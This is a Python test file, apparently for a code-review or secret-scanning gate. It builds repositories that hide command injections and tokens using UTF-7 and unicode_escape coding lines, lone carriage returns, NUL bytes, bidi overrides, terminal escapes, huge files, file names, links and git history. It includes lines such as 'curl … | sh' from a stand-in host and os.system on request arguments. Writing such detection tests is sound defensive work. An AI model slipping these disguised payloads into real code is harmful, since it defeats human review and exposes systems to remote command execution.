"""Bytes that are code to whoever runs them, and something else to whoever reads them; credentials in odd places."""
import base64

from attack import BAD, INJECTION, LEAK, PROJECT, attack, course, token

UTF7 = "import os\nfrom flask import request\ndef f():\n    os.system(request.args['x'])\n"


def utf7(text):
    return "+" + base64.b64encode(text.encode("utf-16-be")).decode().rstrip("=") + "-"


attack("text_python_in_utf_7", "a coding line makes the file UTF-7: what is read as a comment is code",
       head={"shop/a.py": "# -*- coding: utf-7 -*-\n# fine " + utf7("\n" + UTF7) + "\n"})
attack("text_python_by_unicode_escape", "a coding line makes \\n in a comment a line's end",
       head={"shop/a.py": "# coding: unicode_escape\n# fine " + UTF7.replace("\n", "\\n") + "\n"})
attack("text_carriage_returns_alone", "lines end with CR alone: one comment to a reader, code to Python",
       head={"shop/a.py": "# fine\r" + INJECTION.replace("\n", "\r")})
attack("text_carriage_return_in_a_comment", "a CR inside of a comment begins a line of code",
       head={"shop/prices.py": "from flask import request\nimport os\n\n\ndef add(a, b):\n    # adds\r    os.system(request.args['x'])\n    return a + b\n"})
attack("text_nul_makes_it_binary", "a NUL byte in a comment makes JavaScript with a token binary",
       head={"web/a.js": "// \0\nconst token = '%s';\n" % token()})
attack("text_nul_after_8000_bytes", "a NUL byte after the first 8000 bytes",
       head={"shop/a.py": "# " + "x" * 9000 + "\n" + INJECTION + "# \0\n"})
attack("text_utf_16", "a token in a file of UTF-16", head={"conf/a.ini": b"\xff\xfe" + LEAK.encode("utf-16-le")})
attack("text_utf_16_without_mark", "the same without its mark", head={"conf/a.ini": LEAK.encode("utf-16-be")})
attack("text_python_without_ending", "a program by its first line, with no ending to its name",
       head={"bin/convert": ("exec", "#!/usr/bin/env python3\n" + INJECTION)})
attack("text_python_of_odd_endings", "Python in files that are run all the same",
       head={"shop/a.pyw": INJECTION, "SConstruct": INJECTION, "shop/a.PY": INJECTION})
attack("text_notebook_cell", "the code stands in a cell of a notebook",
       head={"a.ipynb": '{"cells": [{"cell_type": "code", "execution_count": null, "id": "a", "metadata": {}, "outputs": [], "source": %s}], '
             '"metadata": {}, "nbformat": 4, "nbformat_minor": 5}' % __import__("json").dumps(INJECTION.splitlines(True))})
attack("text_php", "a language that is not read, with code from a request", head={"web/run.php": "<?php\nsystem($_GET['x']);\n"})
attack("text_shell", "a script that runs what a server sends", head={"deploy.sh": ("exec", "#!/bin/sh\ncurl -s http://x.example/$1 | sh\neval \"$2\"\n")})
attack("text_go", "a language that is not read", head={"cmd/main.go": "package main\n\nimport (\n\t\"net/http\"\n\t\"os/exec\"\n)\n\nfunc h(w http.ResponseWriter, r *http.Request) {\n"
                                                       "\texec.Command(\"sh\", \"-c\", r.URL.Query().Get(\"x\")).Run()\n}\n"})
attack("text_not_python_any_more", "the rest of the file does not parse, and the code stands in it",
       head={"shop/a.py": "def f(:\n  ((((\n" + INJECTION + "]]]]\n"})
attack("text_bidi_in_rust", "a bidirectional override in Rust", head={"src/a.rs": "fn f() {\n    /* \u202e } \u2066 if admin \u2069 \u2066 begin */ let x = 1;\n}\n"})
attack("text_escapes_in_a_log", "terminal escapes hide lines of a shell script", head={"run.sh": "echo a\nrm -rf x #\x1b[2K\x1b[1A\necho b\n"})
attack("secret_in_the_name_of_a_file", "the token is the name of a file", head={"keys/%s.txt" % token(): "x\n"})
attack("secret_in_a_link", "the token is the target of a link", head={"key": ("link", token())})
attack("secret_in_one_line_of_6_mb", "the token stands six megabytes into a line",
       head=lambda: {"web/a.min.mjs": "var a=1;" * 750_000 + "var t='%s';\n" % token()})
attack("secret_at_the_end_of_60_mb", "the token stands at the end of sixty megabytes", head=lambda: {"data/a.csv": "a,b,c,1,2,3\n" * 5_000_000 + LEAK})
attack("secret_in_a_binary_file", "the token stands in a file of bytes", head={"data/a.bin": b"\0\1\2\3" * 1000 + token().encode() + b"\0\xff" * 1000})
attack("secret_in_the_last_of_9000_files", "nine thousand files, the token in the last",
       head=lambda: {**{"data/%d/f%04d.txt" % (n % 90, n): "%d\n" % n for n in range(9000)}, "zzz/last.txt": LEAK})


@course("secret_in_a_commit_message", "the token stands in the message of a commit")
def message(world):
    world.change(PROJECT, {"shop/prices.py": "def add(a, b):\n    return b + a\n"}, message="Change\n\nUse %s\n" % token())
    world.gate(world.range)


@course("secret_between_the_commits", "the token is added and taken out again within the change")
def between(world):
    world.base = world.commit(PROJECT, branch="main")
    one = world.commit({"notes/a.txt": LEAK}, [world.base], branch="one")
    two = world.commit({"notes/a.txt": None, "shop/prices.py": "def add(a, b):\n    return b + a\n"}, [one], branch="two")
    world.gate(world.base + ".." + two)


@course("secret_in_a_merged_branch", "the same in a branch that began before base and was merged")
def merged(world):
    old = world.commit(PROJECT, branch="old")
    world.base = world.commit({"docs/a.md": "a\n"}, [old], branch="main")
    side = world.commit({"notes/a.txt": LEAK}, [old], branch="side")
    gone = world.commit({"notes/a.txt": None}, [side], branch="gone")
    head = world.commit({"shop/prices.py": "def add(a, b):\n    return b + a\n"}, [world.base, gone], branch="merge")
    world.gate(world.base + ".." + head)


assert BAD
